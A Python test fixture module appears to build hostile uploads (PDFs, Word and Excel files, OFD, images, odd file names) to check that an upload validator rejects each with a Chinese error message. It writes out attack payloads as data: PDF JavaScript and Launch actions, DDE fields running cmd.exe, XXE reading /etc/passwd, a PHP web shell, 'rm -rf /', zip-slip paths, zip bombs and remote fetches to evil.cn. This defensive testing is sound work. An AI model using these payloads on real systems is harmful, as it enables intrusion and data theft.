"""Hostile files, made by code: (id, file name, bytes, accepted kinds, fragment of the expected sentence)."""

import zipfile

from tests.casework.uploads import pdfs, pictures
from tests.casework.uploads.offices import PLACE, body, flagged, linked, ofd, office, parts, relations, smuggled, zipped
from tests.casework.uploads.offices import types as content_types

PDF, IMAGE, WORD, EXCEL, OFD = ("pdf",), ("jpg", "png"), ("docx",), ("xlsx",), ("ofd",)
EXE = b"MZ\x90\x00" + b"\0" * 60 + b"This program cannot be run in DOS mode."
HTML = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
PHP = b"<?php system($_GET['c']); ?>"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504
NOT_PDF, NOT_WORD, NOT_PNG, NOT_JPG = (f"的内容不是{x}" for x in ("PDF", "Word", "PNG", "JPG"))
BROKEN, NAME, AROUND = "打不开", "文件名里有不能使用的字符", "前后夹带了别的内容"
JS = b"/S /JavaScript /JS (app.alert\\(1\\))"


def hostile_files():
    """All of them."""
    return [*pdf_actions(), *pdf_shapes(), *office_parts(), *zip_shapes(), *ofd_files(), *images(), *names()]


def pdf_actions():
    """PDF files that act by themselves or carry something."""
    carried = (pdfs.stream(EXE, b"/Type /EmbeddedFile"), b"<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>")
    untyped = (pdfs.stream(EXE), carried[1])
    tree = b"/Names << /EmbeddedFiles << /Names [(a) 6 0 R] >> >>"
    script = pdfs.pdf(b"/OpenAction 5 0 R", extra=[b"<< %s >>" % JS])
    cases = [
        ("javascript-open", pdfs.pdf(b"/OpenAction << %s >>" % JS), "脚本"),
        ("javascript-indirect", script, "脚本"),
        ("javascript-names", pdfs.pdf(b"/Names << /JavaScript << /Names [(a) << %s >>] >> >>" % JS), "脚本"),
        ("javascript-page", pdfs.pdf(page=b"/AA << /O << %s >> >>" % JS), "脚本"),
        ("javascript-link", pdfs.acting(JS), "脚本"),
        ("javascript-next", pdfs.acting(b"/S /URI /URI (https://a.cn) /Next << %s >>" % JS), "脚本"),
        ("javascript-escaped", pdfs.acting(b"/S /J#61va#53cript /J#53 (1)"), "脚本"),
        ("javascript-stream", pdfs.acting(b"/S /JavaScript /JS 5 0 R", [pdfs.stream(b"app.alert(1)")]), "脚本"),
        ("javascript-packed", pdfs.packed(script), "脚本"),
        (
            "javascript-update",
            pdfs.appended(pdfs.pdf(), 1, b"<< /Type /Catalog /Pages 2 0 R /OpenAction << %s >> >>" % JS),
            "脚本",
        ),
        ("javascript-field", pdfs.annotated(b"/Subtype /Widget /FT /Tx /T (a) /AA << /K << %s >> >>" % JS), "脚本"),
        ("launch", pdfs.acting(b"/S /Launch /F (cmd.exe)"), "启动程序"),
        ("launch-open", pdfs.pdf(b"/OpenAction << /S /Launch /Win << /F (cmd.exe) >> >>"), "启动程序"),
        ("launch-packed", pdfs.packed(pdfs.acting(b"/S /Launch /F (cmd.exe)")), "启动程序"),
        ("embedded", pdfs.pdf(tree, extra=carried), "嵌入的附件"),
        ("embedded-packed", pdfs.packed(pdfs.pdf(tree, extra=carried)), "嵌入的附件"),
        ("embedded-untyped", pdfs.annotated(b"/Subtype /FileAttachment /FS 6 0 R", untyped), "嵌入的附件"),
        ("embedded-associated", pdfs.pdf(b"/AF [6 0 R]", extra=untyped), "嵌入的附件"),
        ("richmedia", pdfs.annotated(b"/Subtype /RichMedia /RichMediaContent << >>"), "多媒体"),
        ("rendition", pdfs.annotated(b"/Subtype /Screen /A << /S /Rendition /OP 0 >>"), "多媒体"),
        ("three-d", pdfs.annotated(b"/Subtype /3D /3DD 5 0 R", [pdfs.stream(b"U3D", b"/Type /3D")]), "多媒体"),
        ("movie", pdfs.annotated(b"/Subtype /Movie /Movie << /F (a.avi) >>"), "影片"),
        ("sound", pdfs.acting(b"/S /Sound /Sound 5 0 R", [pdfs.stream(b"\0", b"/Type /Sound")]), "声音"),
        ("xfa", pdfs.pdf(b"/AcroForm << /Fields [] /XFA 5 0 R >>", extra=[pdfs.stream(b"<xdp/>")]), "动态表单"),
        ("go-to-remote", pdfs.acting(b"/S /GoToR /F (\\\\\\\\evil\\\\a.pdf) /D [0 /Fit]"), "跳转到别的文件"),
        ("go-to-embedded", pdfs.acting(b"/S /GoToE /T << /R /C /N (a) >>"), "跳转到附件"),
        ("submit", pdfs.acting(b"/S /SubmitForm /F << /FS /URL /F (https://evil.cn) >>"), "向外提交的表单"),
        ("import", pdfs.acting(b"/S /ImportData /F (a.fdf)"), "导入数据"),
        ("uri-javascript", pdfs.acting(b"/S /URI /URI (JavaScript:alert\\(1\\))"), "不安全的链接"),
        ("uri-file", pdfs.acting(b"/S /URI /URI (file://evil/share/a.exe)"), "不安全的链接"),
        ("nested", pdfs.pdf(b"/X " + b"<< /X " * 90 + b"<< %s >>" % JS + b" >>" * 90), "过深的结构"),
    ]
    return [(f"pdf-{case}", "章程.pdf", data, PDF, said) for case, data, said in cases]


def pdf_shapes():
    """PDF files that are locked, damaged, too long, or something else under a PDF's name."""
    plain = pdfs.pdf()
    cases = [
        ("locked", pdfs.locked(plain, "secret"), "加了密码"),
        ("locked-owner", pdfs.locked(plain), "加了密码"),
        ("truncated", pdfs.pdf(pages=60)[:2600], "不完整"),
        ("no-end", plain.replace(b"%%EOF", b""), "不完整"),
        ("junk-before", b"\r\njunk\n" + plain, NOT_PDF),
        ("mark-before", b"\xef\xbb\xbf" + plain, NOT_PDF),
        ("501-pages", pdfs.pdf(pages=501), "有501页，超过500页"),
        ("no-pages", pdfs.pdf(pages=0), "没有页面"),
        ("only-head", b"%PDF-1.7\n%%EOF\n", BROKEN),
        ("garbage", b"%PDF-1.7\n" + bytes(range(256)) * 20 + b"\n%%EOF", BROKEN),
        ("html", HTML, NOT_PDF),
        ("svg", b"<svg xmlns='http://www.w3.org/2000/svg'><script>1</script></svg>", NOT_PDF),
        ("exe", EXE, NOT_PDF),
        ("php", PHP, NOT_PDF),
        ("js", b"require('child_process').exec('calc')", NOT_PDF),
        ("shell", b"#!/bin/sh\nrm -rf /\n", NOT_PDF),
        ("zip-as", office("docx"), NOT_PDF),
        ("png-as", pictures.png(), NOT_PDF),
        ("exe-polyglot", EXE + plain, NOT_PDF),
        ("html-polyglot", HTML + plain, NOT_PDF),
        ("zip-behind", plain + zipped([("a.exe", EXE)]), "夹带"),
        ("zip-behind-end", plain + zipped([("a.exe", EXE)]) + b"%%EOF", "夹带"),
        ("html-behind", plain + HTML, "夹带"),
        ("php-behind", plain + PHP * 200, "不完整"),
    ]
    return [(f"pdf-{case}", "章程.pdf", data, PDF, said) for case, data, said in cases]


FETCHING = (
    'INCLUDEPICTURE "https://evil.cn/a.png" \\* MERGEFORMATINET', 'INCLUDETEXT "\\\\evil.cn\\share\\a.docx"',
    'LINK Excel.Sheet.12 "C:\\a.xlsx" "Sheet1!R1C1"', "IMPORT https://evil.cn/a.png",
)  # fmt: skip


def told(field):
    """A field of its own."""
    return f"<w:r><w:instrText>{field}</w:instrText></w:r>"


def office_parts():
    """Word and Excel files whose parts act, embed or reach outside."""
    macro = {
        k: f"application/vnd.ms-{v}.macroEnabled.main+xml"
        for k, v in (("docx", "word.document"), ("xlsx", "excel.sheet"))
    }
    xxe = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
    laughs = b'<!DOCTYPE a [<!ENTITY x "ha"><!ENTITY y "&x;&x;">]><a>&y;</a>'
    vba = '<Override PartName="/word/a.bin" ContentType="application/vnd.ms-office.vbaProject"/>'
    ole = '<Override PartName="/word/b.bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>'
    dde = '<w:r><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r>'
    split = "<w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>EAUTO cmd</w:instrText></w:r>"
    codes = " ".join(str(ord(letter)) for letter in "DDEAUTO cmd")
    quoted = f'<w:r><w:fldChar w:fldCharType="begin"/></w:r>{told(f"QUOTE {codes}")}'
    sheet = parts("xlsx")["xl/worksheets/sheet1.xml"].replace(b"<v>", b"<f>cmd|' /C calc'!A0</f><v>")
    link = b'<externalLink xmlns="a"><ddeLink ddeService="cmd" ddeTopic=" /C calc"/></externalLink>'
    away = "https://evil.cn/a"
    cases = []
    for kind in ("docx", "xlsx"):
        folder = PLACE[kind].split("/")[0]
        cases += [
            (f"{kind}-vba", kind, office(kind, {f"{folder}/vbaProject.bin": OLE}), "里有宏"),
            (f"{kind}-vba-case", kind, office(kind, {f"{folder}/VBAPROJECT.BIN": OLE}), "里有宏"),
            (f"{kind}-macro-type", kind, office(kind, main=macro[kind]), "里有宏"),
            (f"{kind}-activex", kind, office(kind, {f"{folder}/activeX/activeX1.bin": OLE}), "嵌入了别的对象"),
            (f"{kind}-embedding", kind, office(kind, {f"{folder}/embeddings/oleObject1.bin": OLE}), "嵌入了别的对象"),
            (f"{kind}-program", kind, office(kind, {f"{folder}/media/a.exe": EXE}), "夹带了程序"),
            (f"{kind}-image-away", kind, office(kind, links=[("image", away, True)]), "引用了外面的内容"),
            (f"{kind}-ole-away", kind, office(kind, links=[("oleObject", away, True)]), "引用了外面的内容"),
            (f"{kind}-xxe", kind, office(kind, {PLACE[kind]: xxe}), "不安全的定义"),
            (f"{kind}-xxe-rels", kind, office(kind, {"_rels/.rels": xxe}), "不安全的定义"),
            (f"{kind}-laughs", kind, office(kind, {"docProps/app.xml": laughs}), "不安全的定义"),
            (f"{kind}-broken-xml", kind, office(kind, {PLACE[kind]: b"<a><b></a>"}), "内容已经损坏"),
            (f"{kind}-no-types", kind, office(kind, without=["[Content_Types].xml"]), "不是完整的"),
            (f"{kind}-no-main", kind, office(kind, without=[PLACE[kind]]), "不是完整的"),
        ]
    cases += [
        ("docx-vba-renamed", "docx", office("docx", {"word/a.bin": OLE}, more=vba), "里有宏"),
        ("docx-ole-renamed", "docx", office("docx", {"word/b.bin": OLE}, more=ole), "嵌入了别的对象"),
        ("docx-template", "docx", office("docx", links=[("attachedTemplate", away, True)]), "引用了外面的内容"),
        (
            "docx-template-share",
            "docx",
            office("docx", links=[("attachedTemplate", "file://evil/a.dotm", True)]),
            "引用了外面的内容",
        ),
        (
            "docx-template-unmarked",
            "docx",
            office("docx", links=[("attachedTemplate", away, False)]),
            "引用了外面的内容",
        ),
        (
            "docx-chunk",
            "docx",
            office("docx", {"word/a.html": HTML}, links=[("aFChunk", "a.html", False)]),
            "嵌入了别的对象",
        ),
        (
            "docx-link-script",
            "docx",
            office("docx", links=[("hyperlink", "javascript:alert(1)", True)]),
            "不安全的链接",
        ),
        ("docx-dde", "docx", office("docx", {PLACE["docx"]: body(inner=dde)}), "自动运行"),
        ("docx-dde-quoted", "docx", office("docx", {PLACE["docx"]: body(inner=quoted)}), "自动运行"),
        *(
            (f"docx-fetch-{n}", "docx", office("docx", {PLACE["docx"]: body(inner=told(field))}), "引用了外面的内容")
            for n, field in enumerate(FETCHING)
        ),
        ("docx-dde-split", "docx", office("docx", {PLACE["docx"]: body(inner=split)}), "自动运行"),
        ("xlsx-dde", "xlsx", office("xlsx", {"xl/externalLinks/externalLink1.xml": link}), "自动运行"),
        ("xlsx-dde-formula", "xlsx", office("xlsx", {"xl/worksheets/sheet1.xml": sheet}), "自动运行"),
        ("xlsx-macrosheet", "xlsx", office("xlsx", {"xl/macrosheets/sheet1.xml": b"<a/>"}), "里有宏"),
        ("xlsx-link-away", "xlsx", office("xlsx", links=[("externalLinkPath", away, True)]), "引用了外面的内容"),
        ("xlsx-as-docx", "docx", office("xlsx"), "不是完整的Word文档"),
        ("docx-as-xlsx", "xlsx", office("docx"), "不是完整的Excel表格"),
    ]
    return [(case, f"名单.{kind}", data, (kind,), said) for case, kind, data, said in cases]


def zip_shapes():
    """Containers that are themselves a trick."""
    found, plain = list(parts("docx").items()), office("docx")
    broken = bytearray(office("docx", {"word/long.xml": b"<a>" + b"text " * 400 + b"</a>"}))
    middle = broken.index(b"word/long.xml") + 20
    broken[middle : middle + 12] = b"\xff" * 12
    many = [(f"word/media/{i}.png", b"") for i in range(2001 - len(found))]
    cases = [
        ("bomb", office("docx", {"word/media/a.bmp": b"\0" * 30_000_000}), "展开后太大"),
        ("bomb-total", zipped(found + [(f"word/media/{i}.bmp", b"\0" * 1_000_000) for i in range(210)]), "展开后太大"),
        ("slip", office("docx", {"../../etc/cron.d/a": b"x"}), "指向外面的路径"),
        ("slip-backslash", office("docx", {"..\\..\\a.txt": b"x"}), "指向外面的路径"),
        ("absolute", office("docx", {"/etc/passwd": b"x"}), "指向外面的路径"),
        ("drive", office("docx", {"C:/windows/a.txt": b"x"}), "指向外面的路径"),
        ("duplicate", zipped([*found, found[2]]), "重复的部分"),
        ("duplicate-case", zipped([*found, ("WORD/Document.xml", b"<a/>")]), "重复的部分"),
        ("symlink", linked(), "里有链接"),
        ("locked", flagged(plain), "加了密码"),
        ("trailing", plain + EXE, AROUND),
        ("trailing-one", plain + b"\0", AROUND),
        ("leading-exe", EXE + plain, NOT_WORD),
        ("leading-zip", zipped([("a.exe", EXE)]) + plain, AROUND),
        ("smuggled", smuggled(plain), AROUND),
        ("2001-entries", zipped(found + many), "文件太多"),
        ("truncated", plain[:-200], BROKEN),
        ("corrupt", bytes(broken), BROKEN),
        ("empty-zip", b"PK\x05\x06" + b"\0" * 18, NOT_WORD),
        ("old-inside", OLE, NOT_WORD),
        ("pdf-as", pdfs.pdf(), NOT_WORD),
        ("lzma", office("docx", method=zipfile.ZIP_LZMA), BROKEN),
        (
            "macro-rels",
            office(
                "docx",
                {"word/_rels/settings.xml.rels": relations(("attachedTemplate", "https://evil.cn/a.dotm", True))},
            ),
            "引用了外面的内容",
        ),
        ("types-empty", office("docx", {"[Content_Types].xml": b""}), "内容已经损坏"),
        (
            "types-macro-case",
            office(
                "docx",
                {
                    "[Content_Types].xml": content_types(
                        "docx", "application/vnd.ms-word.document.MACROENABLED.main+xml"
                    )
                },
            ),
            "里有宏",
        ),
    ]
    return [(f"zip-{case}", "章程.docx", data, WORD, said) for case, data, said in cases]


def ofd_files():
    """OFD files."""
    xxe = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
    cases = [
        ("no-main", ofd(without=["OFD.xml"]), "不是完整的OFD文件"),
        ("docx", office("docx"), "不是完整的OFD文件"),
        ("xxe", ofd({"OFD.xml": xxe}), "不安全的定义"),
        ("program", ofd({"Doc_0/Attachs/a.exe": EXE}), "夹带了程序"),
        ("slip", ofd({"Doc_0/../../a": b"x"}), "指向外面的路径"),
        ("pdf", pdfs.pdf(), "的内容不是OFD"),
    ]
    return [(f"ofd-{case}", "批复.ofd", data, OFD, said) for case, data, said in cases]


def images():
    """Pictures that are too large, cut off, moving, or no pictures at all."""
    photo, drawing = pictures.jpg(size=(800, 600)), pictures.png(size=(800, 600))
    cases = [
        ("huge-claim", "png", pictures.claimed(30000, 30000), "像素太多"),
        ("huge", "png", pictures.png("1", (7000, 6000)), "像素太多"),
        ("huge-jpg", "jpg", pictures.jpg("L", (8000, 6000)), "像素太多"),
        ("truncated", "jpg", photo[: len(photo) // 2], BROKEN),
        ("truncated-png", "png", drawing[: len(drawing) // 2], BROKEN),
        ("short", "png", pictures.claimed(400, 400), BROKEN),
        ("only-head", "jpg", b"\xff\xd8\xff\xe0" + b"\0" * 40, BROKEN),
        ("animated", "png", pictures.moving(), "是动画"),
        ("gif", "png", pictures.moving("GIF"), NOT_PNG),
        ("bmp", "jpg", pictures.written(pictures.drawn(), "BMP"), NOT_JPG),
        ("webp", "jpg", pictures.written(pictures.drawn(), "WEBP"), NOT_JPG),
        ("html", "png", HTML, NOT_PNG),
        ("php", "jpg", PHP, NOT_JPG),
        ("php-magic", "jpg", b"\xff\xd8\xff" + PHP, BROKEN),
        ("gif-php", "jpg", b"GIF89a" + PHP, NOT_JPG),
        ("png-as-jpg", "jpg", drawing, NOT_JPG),
        ("jpg-as-png", "png", photo, NOT_PNG),
        ("exe", "png", EXE, NOT_PNG),
        ("svg", "png", b"<svg onload='alert(1)'/>", NOT_PNG),
        ("php-before", "jpg", PHP + photo, NOT_JPG),
    ]
    return [(f"image-{case}", f"照片.{kind}", data, IMAGE, said) for case, kind, data, said in cases]


def names():
    """Good bytes under bad names, and files that are empty."""
    plain = pdfs.pdf()
    program, old = "像是程序文件", "是旧格式"
    cases = [
        ("rtl", "章程\u202efdp.pdf", NAME), ("zero-width", "章\u200b程.pdf", NAME), ("path", "../../章程.pdf", NAME),
        ("windows-path", "C:\\章程.pdf", NAME), ("nul", "章程.pdf\0.exe", NAME), ("newline", "章程\n.pdf", NAME),
        ("c1", "章\x85程.pdf", NAME), ("line-separator", "章\u2028程.pdf", NAME), ("surrogate", "章\udc80程.pdf", NAME),
        ("hidden", ".章程.pdf", NAME), ("long", "章" * 147 + ".pdf", NAME),
        ("double", "章程.exe.pdf", program), ("double-php", "章程.PHP.pdf", program), ("program", "章程.pdf.exe", program),
        ("double-spaces", "章程.exe                .pdf", program),
        ("js", "a.js", program), ("no-extension", "章程", "没有扩展名"), ("only-extension", " .pdf", "没有扩展名"),
        ("dot-end", "章程.pdf.", "格式不在可以上传的范围内"), ("html", "章程.html", "格式不在可以上传的范围内"),
        ("svg", "章程.svg", "格式不在可以上传的范围内"), ("docm", "章程.docm", "格式不在可以上传的范围内"),
        ("zip", "章程.zip", "格式不在可以上传的范围内"), ("not-accepted", "章程.png", "请保存为PDF后再上传"),
    ]  # fmt: skip
    found = [(f"name-{case}", name, plain, PDF, said) for case, name, said in cases]
    return [
        *found,
        ("old-doc", "章程.doc", OLE, WORD, old),
        ("old-xls", "名单.XLS", OLE, EXCEL, old),
        ("old-wps", "章程.wps", OLE, WORD, old),
        ("empty-pdf", "章程.pdf", b"", PDF, "是空的"),
        ("empty-docx", "章程.docx", b"", WORD, "是空的"),
        ("empty-png", "照片.png", b"", IMAGE, "是空的"),
    ]
